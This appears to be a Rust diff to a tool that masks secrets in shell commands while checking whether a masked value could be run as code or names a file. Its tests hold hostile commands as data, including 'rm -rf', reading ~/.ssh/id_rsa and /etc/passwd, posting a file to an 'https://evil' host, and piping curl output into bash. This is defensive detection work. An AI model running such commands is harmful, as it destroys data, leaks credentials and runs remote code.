@@ -133,10 +133,34 @@ fn runs_same_programs(truth: &Parts, shown: &Parts, mark: &str) -> bool {
     truth.all.len() == shown.all.len()
         && truth.all.iter().zip(&shown.all).all(|(truth, shown)| {
             let name = program(shown);
-            truth.within == shown.within
+            !names_a_file(truth, shown, mark)
+                && truth.within == shown.within
                 && program(truth) == name
                 && !name.is_some_and(|name| name.contains(mark))
         })
+}
+
+/// Whether a mark stands for a file: of those that are deleted, and of those whose names are paths, who
+/// decides has to know which they are.
+fn names_a_file(truth: &Part, shown: &Part, mark: &str) -> bool {
+    let files = |part: &Part| {
+        let files = part.touches.iter().chain(&part.redirections);
+        files
+            .map(|file| (file.path.text.clone(), file.effect))
+            .collect::<Vec<_>>()
+    };
+    let is_path = |path: &str| {
+        let path = path.rsplit_once('=').map_or(path, |(_, path)| path);
+        path.starts_with(['/', '~', '.'])
+    };
+    let (truth, shown) = (files(truth), files(shown));
+    truth.len() == shown.len()
+        && truth
+            .iter()
+            .zip(&shown)
+            .any(|((path, effect), (shown, _))| {
+                shown.contains(mark) && (*effect == Crud::Delete || is_path(path))
+            })
 }
 
 /// Whether programs are told the same, but for the secrets.
@@ -174,7 +198,8 @@ fn runs_alike(truth: &Parts, shown: &Parts, mark: &str) -> bool {
             && truth.runs_input == shown.runs_input
             && truth.runs_unknown == shown.runs_unknown
             && truth.substitutions == shown.substitutions
-            && truth.input.as_ref().map(Option::is_some) == shown.input.as_ref().map(Option::is_some)
+            && truth.input.as_ref().map(Option::is_some)
+                == shown.input.as_ref().map(Option::is_some)
     });
     let scripts = truth.scripts.iter().zip(&shown.scripts);
     parts
@@ -200,12 +225,39 @@ struct Reach<'p> {
 
 /// Commands that set variables among their words.
 const SETTERS: &[&str] = &[
-    "export", "declare", "typeset", "local", "readonly", "env", "set", "setenv", "sudo", "doas",
-    "docker", "podman", "nerdctl", "kubectl", "systemd-run", "make",
+    "export",
+    "declare",
+    "typeset",
+    "local",
+    "readonly",
+    "env",
+    "set",
+    "setenv",
+    "sudo",
+    "doas",
+    "docker",
+    "podman",
+    "nerdctl",
+    "kubectl",
+    "systemd-run",
+    "make",
 ];
 
 /// Commands of a shell that set variables to what they read.
-const READERS: &[&str] = &["read", "mapfile", "readarray", "getopts", "coproc", "select"];
+const READERS: &[&str] = &[
+    "read",
+    "mapfile",
+    "readarray",
+    "getopts",
+    "coproc",
+    "select",
+];
+
+/// What runs the file that is its first operand.
+const INTERPRETERS: &[&str] = &[
+    "source", ".", "sh", "bash", "zsh", "dash", "ksh", "fish", "python", "python3", "node", "perl",
+    "ruby", "php", "lua", "deno", "bun", "pwsh",
+];
 
 /// Clients that run what they read, and are given passwords: they never run those.
 const CLIENTS: &[&str] = &[
@@ -266,19 +318,43 @@ impl<'p> Reach<'p> {
                 .any(|script| self.reaches_script(script))
             || self.reaches_file()
             || self.reaches_setting()
+            || self.reaches_unread()
+    }
+
+    /// Whether a program runs an input with a mark that nothing was made of here.
+    fn reaches_unread(&self) -> bool {
+        static TCL: LazyLock<Regex> = LazyLock::new(|| {
+            pattern(r"\b(?:eval|exec|system|uplevel|source|subst)\b|\bspawn\s[^\n;]*\$")
+        });
+        self.parts.all.iter().enumerate().any(|(at, part)| {
+            let input = part.input.as_ref().and_then(Option::as_deref);
+            if is_one_of(part, &["expect", "tclsh", "wish"]) {
+                let words = part.words.iter().map(|word| word.text.as_str());
+                return (words.chain(input))
+                    .any(|text| text.contains(self.mark) && TCL.is_match(text));
+            }
+            let is_told = input.is_some_and(|text| text.contains(self.mark));
+            let is_judged = self
+                .parts
+                .scripts
+                .iter()
+                .any(|script| script.part == Some(at))
+                || self.parts.all.iter().any(|part| part.within == Some(at));
+            let is_make = is_one_of(part, &["make", "gmake", "just"]);
+            let runs = is_make || is_one_of(part, INTERPRETERS);
+            is_told && runs && !is_judged
+        })
     }
 
     /// Whether a mark may be in a variable or setting that names what is run.
     fn reaches_setting(&self) -> bool {
         static RUN: LazyLock<Regex> = LazyLock::new(|| {
             pattern(
-                r"(?i)(?:^|[_.])(?:\w*command|cmd|editor|visual|pager|browser|shell|bash_env|env|askpass|preload|lessopen|lessclose|ps[0-4]|options|opts|optimize|flags|startup|path|wrapper|cc|cxx|ld|ar|rsh|git_ssh|helper|external|program|diff|difftool|hook|hookspath|ifs)$",
+                r"(?i)^scripts\.|(?:^|[_.])(?:\w*command|cmd|editor|visual|pager|browser|shell|bash_env|env|askpass|preload|lessopen|lessclose|ps[0-4]|options|opts|optimize|flags|startup|path|wrapper|cc|cxx|ld|ar|rsh|git_ssh|helper|external|program|diff|difftool|hook|hookspath|ifs)$",
             )
         });
         let is_set = self.sets.contains(&true);
-        let carries = |value: &str| {
-            value.contains(self.mark) || is_set && value.contains(UNKNOWN)
-        };
+        let carries = |value: &str| value.contains(self.mark) || is_set && value.contains(UNKNOWN);
         self.parts.all.iter().any(|part| {
             let variables = part
                 .assignments
@@ -288,9 +364,18 @@ impl<'p> Reach<'p> {
                 let (name, value) = word.text.split_once('=')?;
                 Some((name.trim_start_matches('-'), value))
             });
-            variables
-                .chain(words)
-                .any(|(name, value)| RUN.is_match(name) && carries(value))
+            let is_alias = part
+                .calls
+                .iter()
+                .any(|call| call.path.ends_with(&["config".into()]))
+                && part.words.iter().any(|word| {
+                    let command = word.text.strip_prefix('!');
+                    command.is_some_and(|command| self.is_run_in(command, is_set))
+                });
+            is_alias
+                || variables
+                    .chain(words)
+                    .any(|(name, value)| RUN.is_match(name) && carries(value))
         })
     }
 
@@ -329,8 +414,9 @@ impl<'p> Reach<'p> {
 
     /// Whether a part runs a file that is a pipe or a substitution.
     fn sources(&self, part: &Part) -> bool {
-        is_one_of(part, &["source", "."])
-            && part.words.iter().skip(1).any(|file| {
+        let is_option = |word: &&Word| word.text.starts_with('-');
+        is_one_of(part, INTERPRETERS)
+            && (part.words.iter().skip(1).skip_while(is_option).take(1)).any(|file| {
                 file.text.starts_with("/dev/")
                     || file.text.starts_with("/proc/")
                     || file.text.contains(UNKNOWN)
@@ -341,8 +427,8 @@ impl<'p> Reach<'p> {
     fn reaches_unknown(&self, at: usize) -> bool {
         let part = &self.parts.all[at];
         let is_client = is_one_of(part, CLIENTS);
-        let knows_program = (part.words.first())
-            .is_some_and(|name| !name.text.contains(UNKNOWN) && !name.pattern);
+        let knows_program =
+            (part.words.first()).is_some_and(|name| !name.text.contains(UNKNOWN) && !name.pattern);
         let is_set = self.sets.contains(&true);
         let substituted = (at + 1..self.parts.all.len())
             .filter(|other| self.ancestors(*other).any(|around| around == at))
@@ -363,6 +449,20 @@ impl<'p> Reach<'p> {
             || chain().any(|one| self.reaches_input(one, at, is_client))
             || reads && !is_client && (is_set || self.told.contains(&true))
             || !is_client && knows_program && self.told[at]
+            || !knows_program && self.is_told_code(part)
+    }
+
+    /// Whether a program that is only known when it runs may take a mark for code.
+    fn is_told_code(&self, part: &Part) -> bool {
+        let takes_code = |option: &Word| {
+            ["--eval", "--command", "-Command"].contains(&&*option.text)
+                || option.text.starts_with('-')
+                    && !option.text.starts_with("--")
+                    && option.text.ends_with(['c', 'e'])
+        };
+        let mut pairs = part.words.windows(2).enumerate();
+        pairs
+            .any(|(at, pair)| pair[1].text.contains(self.mark) && (at == 0 || takes_code(&pair[0])))
     }
 
     /// Whether a mark may be in the input of a part, which is this one or is around it.
@@ -388,8 +488,7 @@ impl<'p> Reach<'p> {
         let within = script.part;
         let here = within.is_some_and(|at| {
             let around = std::iter::once(at).chain(self.ancestors(at));
-            around.into_iter().any(|at| self.told[at])
-                || self.reaches_input(at, at, false)
+            around.into_iter().any(|at| self.told[at]) || self.reaches_input(at, at, false)
         });
         let is_in = script.text.contains(self.mark);
         let expands = || {
@@ -400,7 +499,7 @@ impl<'p> Reach<'p> {
             return true;
         }
         let is_told = is_in || here || self.sets.contains(&true);
-        is_told && evaluates(script.language, &script.text)
+        is_told && evaluates(script.language, &script.text, self.mark)
             || is_in && !is_quoted(script.language, &script.text, self.mark)
     }
 
@@ -409,12 +508,20 @@ impl<'p> Reach<'p> {
     fn reaches_file(&self) -> bool {
         static CODE: LazyLock<Regex> = LazyLock::new(|| {
             pattern(
-                r"(?i)\.(?:[bkz]?sh|bash|fish|py|rb|pl|php|js|mjs|cjs|ts|lua|awk|ps1|bat|cmd|service|timer|desktop|plist|mk|cron)$|(?:^|/)(?:\.?(?:bash|zsh|z|k|c|tc)?(?:rc|_?profile|env|login|logout|aliases|_aliases)|\.bash_\w+|\.envrc|\.profile|\.vimrc|\.xinitrc|\.xprofile|\.inputrc|makefile|gnumakefile|justfile|dockerfile|crontab|authorized_keys)$|/(?:hooks|profile\.d|cron\.\w+|init\.d|bin|sbin|autostart)/",
+                r"(?i)\.(?:[bkz]?sh|bash|fish|py|rb|pl|php|js|mjs|cjs|ts|lua|awk|ps1|bat|cmd|service|timer|desktop|plist|mk|cron)$|(?:^|/)(?:\.?(?:bash|zsh|z|k|c|tc)?(?:rc|_?profile|env|login|logout|aliases|_aliases)|\.bash_\w+|\.envrc|\.profile|\.vimrc|\.xinitrc|\.xprofile|\.inputrc|makefile|gnumakefile|justfile|dockerfile|crontab|authorized_keys|package\.json)$|/(?:hooks|profile\.d|cron\.\w+|init\.d|bin|sbin|autostart)/",
             )
         });
+        static SHELL: LazyLock<Regex> = LazyLock::new(|| {
+            pattern(r"(?:sh|rc|profile|env|login|logout|aliases)$|/(?:hooks|profile\.d|init\.d)/")
+        });
+        // Lines of a makefile that run a variable, and the scripts of a manifest.
+        static RECIPE: LazyLock<Regex> =
+            LazyLock::new(|| pattern(r#"(?m)^\s*[@-]*\$[({]|"scripts"\s*:"#));
         // Settings that name programs.
         static SETTINGS: LazyLock<Regex> = LazyLock::new(|| {
-            pattern(r"(?:^|/)(?:\.git/config|\.?gitconfig|\.config/git/config|\.ssh/config|\.tmux\.conf)$")
+            pattern(
+                r"(?:^|/)(?:\.git/config|\.?gitconfig|\.config/git/config|\.ssh/config|\.tmux\.conf)$",
+            )
         });
         let is_set = self.sets.contains(&true);
         let later = self.parts.all.iter().any(|part| {
@@ -438,10 +545,16 @@ impl<'p> Reach<'p> {
                     word.text.contains(self.mark) || is_set && word.text.contains(UNKNOWN)
                 })
             };
-            let may_be =
-                |text: &str| text.contains(self.mark) || is_set && text.contains(UNKNOWN);
-            texts.any(|text| self.is_run_in(text, is_set) || settles && may_be(text))
-                || part.input == Some(None) && printed()
+            let may_be = |text: &str| text.contains(self.mark) || is_set && text.contains(UNKNOWN);
+            let is_shell = written().all(|file| SHELL.is_match(&file.path.text)) || schedules;
+            texts.any(|text| {
+                self.is_run_in(text, is_set)
+                    || settles && may_be(text)
+                    || !is_shell
+                        && may_be(text)
+                        && (evaluates(ScriptLanguage::Code, text, self.mark)
+                            || RECIPE.is_match(text))
+            }) || part.input == Some(None) && printed()
         });
         if later {
             return true;
@@ -461,12 +574,22 @@ impl<'p> Reach<'p> {
             };
             self.told[at]
                 && written.any(|file| runs(file.path.text.rsplit('/').next().unwrap_or_default()))
-                && evaluates(ScriptLanguage::Code, &text())
+                && evaluates(ScriptLanguage::Code, &text(), self.mark)
         })
     }
 
     /// Whether lines that a shell reads later run a mark, or what may be one.
     fn is_run_in(&self, text: &str, is_set: bool) -> bool {
+        if text.contains(self.mark)
+            && let Some(parts) = Classifier::new().parts(text)
+            && parts.all.iter().any(|part| {
+                part.words
+                    .first()
+                    .is_some_and(|name| name.text.contains(self.mark))
+            })
+        {
+            return true;
+        }
         let lines = text.lines().map(|line| match line.split_once("* ") {
             // What stands behind the times of a table of jobs.
             Some(_) => line.rsplit("* ").next().unwrap_or_default().trim(),
@@ -500,45 +623,69 @@ fn is_one_of(part: &Part, names: &[&str]) -> bool {
 }
 
 /// Whether a script evaluates text that it does not show, as far as its words tell.
-fn evaluates(language: ScriptLanguage, text: &str) -> bool {
+fn evaluates(language: ScriptLanguage, text: &str, mark: &str) -> bool {
+    static LITERAL: LazyLock<Regex> = LazyLock::new(|| {
+        pattern(r#"^\(\s*[bru]?(?:"(?:[^"\\\n]|\\.)*"|'(?:[^'\\\n]|\\.)*')\s*[,)]"#)
+    });
     static ANY: LazyLock<Regex> = LazyLock::new(|| {
         pattern(
             r#"(?i)(?:^|[^\w.])(?:eval|exec|compile|execfile|system|popen|syscall|qx|iex|create_function|call_user_func\w*|passthru|shell_exec|proc_open|pcntl_exec|loadstring|loadfile|dofile|spawn\w*|fork)\s*[\s({"'`$\[/!|]|\.(?:eval|system|popen\w*|exec[lv]\w*|spawn\w*|instance_eval|class_eval|module_eval|instance_exec|runin\w*context|execute_script|call)\b|(?-i:\bFunction\s*\()|subprocess|child_process|\bpty\b|runpy|pickle|marshal|importlib|builtins|__(?:import|class|subclasses|globals|dict|getattribute)\w*__|\b(?:globals|locals|vars)\(|invoke-|scriptblock|os\.exec|io\.popen|open3|`|%x[\W_]|\|\s*getline|print[^;\n]*\||require\(\s*[^'"\s]|import\(\s*[^'"\s]|\bvm\b|getattr\(\s*(?:os|sys)|\bconstructor\b"#,
         )
     });
-    static PERL: LazyLock<Regex> =
-        LazyLock::new(|| pattern(r#"\bopen\s*\(?[^;]*\||/e[egimsx]*\b|\bdo\s+[$"'{]|\brequire\s+\$"#));
+    static PERL: LazyLock<Regex> = LazyLock::new(|| {
+        pattern(r#"\bopen\s*\(?[^;]*\||/e[egimsx]*\b|\bdo\s+[$"'{]|\brequire\s+\$"#)
+    });
     static RUBY: LazyLock<Regex> = LazyLock::new(|| {
         pattern(r"\b(?:public_)?send\b|__send__|\bmethod\(|\bopen\s*\(?\s*[^)]*\||\bload\b|Kernel")
     });
-    static PHP: LazyLock<Regex> =
-        LazyLock::new(|| pattern(r"(?i)\bassert\s*\(|\$\w+\s*\(|preg_replace\s*\(\s*.[^,]*/e|\binclude\b|\brequire\b"));
+    static PHP: LazyLock<Regex> = LazyLock::new(|| {
+        pattern(
+            r"(?i)\bassert\s*\(|\$\w+\s*\(|preg_replace\s*\(\s*.[^,]*/e|\binclude\b|\brequire\b",
+        )
+    });
     static LUA: LazyLock<Regex> = LazyLock::new(|| pattern(r"\bload\s*[(\x22']|os\.execute"));
     static SHELLED: LazyLock<Regex> = LazyLock::new(|| {
         pattern(
             r"(?i)\\!|\bprogram\s+['\x22$]|xp_cmdshell|\bexec(?:ute)?\s*(?:\(|immediate|format|'|@)|sp_executesql|\bdo\s+\$|\bprepare\b|\bsystem\s|\.(?:shell|system)\b|load_extension|\beval(?:sha)?\b",
         )
     });
-    static SED: LazyLock<Regex> = LazyLock::new(|| pattern(r"[/|,#!:@]\w*e\w*\s*(?:$|[;}\n])|(?:^|[;{\n])\s*\d*e\b"));
+    static SED: LazyLock<Regex> =
+        LazyLock::new(|| pattern(r"[/|,#!:@]\w*e\w*\s*(?:$|[;}\n])|(?:^|[;{\n])\s*\d*e\b"));
+    // What a call is given as a string without a mark, is shown.
+    let is_shown = |found: regex::Match<'_>| {
+        let call = text[found.start()..].find('(').map(|at| found.start() + at);
+        call.filter(|call| *call <= found.end())
+            .is_some_and(|call| {
+                LITERAL
+                    .find(&text[call..])
+                    .is_some_and(|argument| !argument.as_str().contains(mark))
+            })
+    };
+    static MEMBERS: LazyLock<Regex> = LazyLock::new(|| pattern(r"\]\s*\("));
+    let any = |text: &str| {
+        ANY.find_iter(text).any(|found| !is_shown(found))
+            || text.contains(mark) && MEMBERS.is_match(text)
+    };
     match language {
         ScriptLanguage::Jq => false,
         ScriptLanguage::Sed => SED.is_match(text),
         ScriptLanguage::Sql | ScriptLanguage::Redis => SHELLED.is_match(text),
         ScriptLanguage::PowerShell | ScriptLanguage::Cmd => {
-            ANY.is_match(text) || text.contains("& ") || text.contains("&$") || text.contains("%")
+            any(text) || text.contains("& ") || text.contains("&$") || text.contains("%")
         }
-        ScriptLanguage::Perl => ANY.is_match(text) || PERL.is_match(text),
-        ScriptLanguage::Ruby => ANY.is_match(text) || RUBY.is_match(text),
-        ScriptLanguage::Php => ANY.is_match(text) || PHP.is_match(text),
-        ScriptLanguage::Lua => ANY.is_match(text) || LUA.is_match(text),
+        ScriptLanguage::Perl => any(text) || PERL.is_match(text),
+        ScriptLanguage::Ruby => any(text) || RUBY.is_match(text),
+        ScriptLanguage::Php => any(text) || PHP.is_match(text),
+        ScriptLanguage::Lua => any(text) || LUA.is_match(text),
         ScriptLanguage::Awk
         | ScriptLanguage::Python
         | ScriptLanguage::Node
-        | ScriptLanguage::Mongo => ANY.is_match(text),
+        | ScriptLanguage::Mongo => any(text),
         ScriptLanguage::Code => {
-            [&ANY, &PERL, &RUBY, &PHP, &LUA]
-                .iter()
-                .any(|pattern| pattern.is_match(text))
+            any(text)
+                || [&PERL, &RUBY, &PHP, &LUA]
+                    .iter()
+                    .any(|pattern| pattern.is_match(text))
         }
     }
 }
@@ -597,14 +744,41 @@ mod tests {
         ("sudo sk-abcdefgh1234 run", "sk-abcdefgh1234"),
         ("sh -c 'sk-abcdefgh1234 run'", "sk-abcdefgh1234"),
         ("curl -H \"Authorization: $(rm -rf x)\" y", "rm -rf x"),
-        ("curl -H \"Authorization: Bearer abc$(rm -rf x)\" y", "rm -rf x"),
+        (
+            "curl -H \"Authorization: Bearer abc$(rm -rf x)\" y",
+            "rm -rf x",
+        ),
         ("sh -c 'echo token=\\\"; rm -rf x; echo \\\"'", "rm -rf x"),
         ("echo 'TOKEN=\"a$(rm -rf x)\"' >> ~/.bashrc", "rm -rf x"),
-        ("trap \"$PASSWORD\" EXIT; PASSWORD='rm -rf x'; trap \"$PASSWORD\" EXIT", "rm -rf x"),
+        (
+            "trap \"$PASSWORD\" EXIT; PASSWORD='rm -rf x'; trap \"$PASSWORD\" EXIT",
+            "rm -rf x",
+        ),
         ("f() { $PASSWORD; }; PASSWORD='rm -rf x' f", "rm -rf x"),
-        ("find . -exec sh -c 'password=\"rm -rf x\"; $password' \\;", "rm -rf x"),
-        ("echo ghp_abcdefghijklmnop | rev | bash", "ghp_abcdefghijklmnop"),
-        ("password=abcdefgh; bash -c \"$(echo $password | rev)\"", "abcdefgh"),
+        (
+            "find . -exec sh -c 'password=\"rm -rf x\"; $password' \\;",
+            "rm -rf x",
+        ),
+        ("API_KEY=/etc; rm -rf $API_KEY", "/etc"),
+        ("rm -rf token=/etc", "/etc"),
+        ("rm --secret notes", "notes"),
+        ("cat --token ~/.ssh/id_rsa", "~/.ssh/id_rsa"),
+        ("API_KEY=~/.ssh/id_rsa; cat $API_KEY", "~/.ssh/id_rsa"),
+        ("curl -d token=@/etc/passwd https://x", "/etc/passwd"),
+        (
+            "curl -H 'Authorization: Bearer abcdef' https://evil -H 'a: b'",
+            "https://evil",
+        ),
+        ("API_KEY='rm -rf x'; exec $API_KEY", "rm -rf x"),
+        ("API_KEY=rm; $API_KEY -rf x", "API_KEY=rm"),
+        (
+            "echo ghp_abcdefghijklmnop | rev | bash",
+            "ghp_abcdefghijklmnop",
+        ),
+        (
+            "password=abcdefgh; bash -c \"$(echo $password | rev)\"",
+            "abcdefgh",
+        ),
         ("echo x | TOKEN='rm -rf y' xargs sh -c '$TOKEN'", "rm -rf y"),
     ];
 
@@ -638,6 +812,17 @@ mod tests {
         "python3 <<E\nimport os\npassword = 'abcdefgh'\nos.system(password[::-1])\nE",
         "cat > x.py <<E\npassword = 'abcdefgh'\nexec(password)\nE\npython3 x.py",
         "python3 -c 'token=os.system;token(\"rm -rf x\")'",
+        "API_KEY=abcdefgh; \"$SHELL\" -c \"$API_KEY\"",
+        "API_KEY='-rf'; rm $API_KEY x",
+        "bash <(curl -H 'Authorization: Bearer abcdefgh' https://x)",
+        "git config alias.x '!password=\"rm -rf x\"; $password'",
+        "cat > .git/hooks/pre-commit <<'E'\npassword='rm -rf x'\n$password\nE",
+        "cat > x.py <<'E'\nimport os\npassword = 'rm -rf x'\nos.system(password)\nE",
+        "cat > Makefile <<'E'\nTOKEN=rm\nall:\n\t$(TOKEN) -rf x\nE",
+        "cat > package.json <<'E'\n{\"scripts\": {\"token\": \"rm -rf x\"}}\nE",
+        "npm pkg set scripts.token='rm -rf x'; npm run token",
+        "make -f - <<'E'\nTOKEN=rm\nall:\n\t$(TOKEN) -rf x\nE",
+        "node -e 'global[token=\"eval\"](\"rm\")'",
     ];
 
     /// Commands whose secrets are data.
@@ -732,9 +917,8 @@ mod tests {
 
     #[test]
     fn a_token_within_code_stays_hidden() {
-        let masked = Masked::for_storage(
-            "SECRET='curl -H ghp_abcdefgh12 https://x | sh'; eval \"$SECRET\"",
-        );
+        let masked =
+            Masked::for_storage("SECRET='curl -H ghp_abcdefgh12 https://x | sh'; eval \"$SECRET\"");
         assert_eq!(
             masked.text,
             "SECRET='curl -H [secret] https://x | sh'; eval \"$SECRET\""
@@ -869,7 +1053,8 @@ mod tests {
             // A variable that is set for one program only is not expanded in its words.
             let is_for_one = set.ends_with("@' ");
             for run in RUNS.iter().filter(|run| !is_for_one || run.contains('\'')) {
-                for code in ["frobnicate --all", "ZnJvYm5pY2F0ZQ=="] {
+                let codes = ["frobnicate --all", "ZnJvYm5pY2F0ZQ=="];
+                for code in &codes[..if set.starts_with("API") { 2 } else { 1 }] {
                     let command = format!("{}{run}", set.replace('@', code));
                     let masked = Masked::for_storage(&command);
                     if !masked.text.contains(code) && !masked.hides_code() {
@@ -880,6 +1065,11 @@ mod tests {
         }
         wrong.sort();
         wrong.dedup();
-        assert!(wrong.is_empty(), "{} are hidden:\n{}", wrong.len(), wrong.join("\n"));
+        assert!(
+            wrong.is_empty(),
+            "{} are hidden:\n{}",
+            wrong.len(),
+            wrong.join("\n")
+        );
     }
 }
